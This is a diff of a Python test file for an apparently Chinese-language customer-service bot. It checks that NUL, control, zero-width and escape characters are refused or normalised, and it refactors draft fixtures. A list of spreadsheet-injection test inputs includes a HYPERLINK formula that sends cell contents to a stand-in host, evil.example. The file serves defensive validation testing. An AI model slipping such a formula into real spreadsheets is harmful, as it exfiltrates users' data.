@@ -17,11 +17,15 @@ from openpyxl import load_workbook
 from sqlalchemy import insert
 
 from bot.app import create_app
-from bot.services import Services
+from bot.services import Services, build_services
+from bot.settings import ConversationSettings, Settings
 from knowledge.drafts import drafts as drafts_table
+from knowledge.embedding import HashingEmbedder
 from tests.bot.api.conftest import REFUSED, events, send, services_over, start
+from tests.bot.conversation.conftest import postgres_admin, postgres_url  # noqa: F401
 
 ESCAPE = "量子糾纏\x1b[31m 的包裹？"
+WHALES = {"question": "鯨魚罐頭有賣嗎？", "answer": "沒有。"}
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?q="&A1,"點我")',
     "+1+1",
@@ -85,6 +89,32 @@ def test_a_nul_or_control_character_in_a_customer_id_is_refused(client: TestClie
     assert_error(response, 400, "control_character")
 
 
+def test_a_nul_never_reaches_postgresql(demo_data_dir: Path, postgres_url: str) -> None:  # noqa: F811
+    """PostgreSQL cannot store a NUL: it used to answer 500; now the edge refuses it."""
+    settings = Settings(
+        data_dir=demo_data_dir, conversation=ConversationSettings(database_url=postgres_url)
+    )
+    built = build_services(settings, embedders=[HashingEmbedder("e5")])
+    try:
+        with TestClient(create_app(built)) as client:
+            conversation = start(client)
+            refused = post_message(client, conversation, "退貨\x00要怎麼申請？")
+            assert_error(refused, 400, "nul_character")
+            assert_error(
+                client.post("/api/conversations", json={"customer_id": "\x00"}),
+                400,
+                "nul_character",
+            )
+            assert_error(
+                client.post("/api/auth/login", json={"username": "a\x00", "password": "x"}),
+                400,
+                "nul_character",
+            )
+            assert send(client, conversation, ESCAPE)["status"]
+    finally:
+        built.close()
+
+
 @pytest.mark.parametrize("text", ["\u200b", "\u200b\u200c\u200d\ufeff", " \u2060 \u200e\n"])
 def test_zero_width_only_is_an_empty_message(client: TestClient, text: str) -> None:
     conversation = start(client)
@@ -115,7 +145,8 @@ def test_agent_replies_and_notes_are_normalised(client: TestClient, services: Se
         assert replied.json()["data"]["text"] == "好的，馬上處理"
         assert_error(agent.post(f"{base}/notes", json={"text": "a\x00b"}), 400, "nul_character")
         assert_error(agent.post(f"{base}/notes", json={"text": "\u200b"}), 400, "empty_message")
-        saved = agent.post("/api/agent/drafts", json={"question": "鈴聲\u0007問題？", "answer": "好"})
+        draft = {"question": "鈴聲\u0007問題？", "answer": "好"}
+        saved = agent.post("/api/agent/drafts", json=draft)
         assert saved.status_code == 201 and saved.json()["question"] == "鈴聲問題？"
 
 
@@ -194,7 +225,7 @@ def test_a_poisoned_draft_never_blocks_approvals(admin: TestClient, services: Se
     assert first.json()["job"]["state"] == "done"
     assert answer(admin, "鈴聲問題？")["status"] == "answered"
 
-    clean = admin.post("/api/admin/drafts", json={"question": "鯨魚罐頭有賣嗎？", "answer": "沒有。"})
+    clean = admin.post("/api/admin/drafts", json=WHALES)
     second = approve(admin, clean.json()["id"])
     assert second.status_code == 200, second.text
     assert second.json()["draft"]["status"] == "approved"
@@ -234,7 +265,7 @@ def test_a_draft_that_is_not_served_stays_pending_with_the_reason(
     [draft] = [d for d in admin.get("/api/admin/drafts").json()["drafts"] if d["id"] == "invisible"]
     assert draft["status"] == "pending"
 
-    clean = admin.post("/api/admin/drafts", json={"question": "鯨魚罐頭有賣嗎？", "answer": "沒有。"})
+    clean = admin.post("/api/admin/drafts", json=WHALES)
     assert approve(admin, clean.json()["id"]).json()["draft"]["status"] == "approved"
 
 
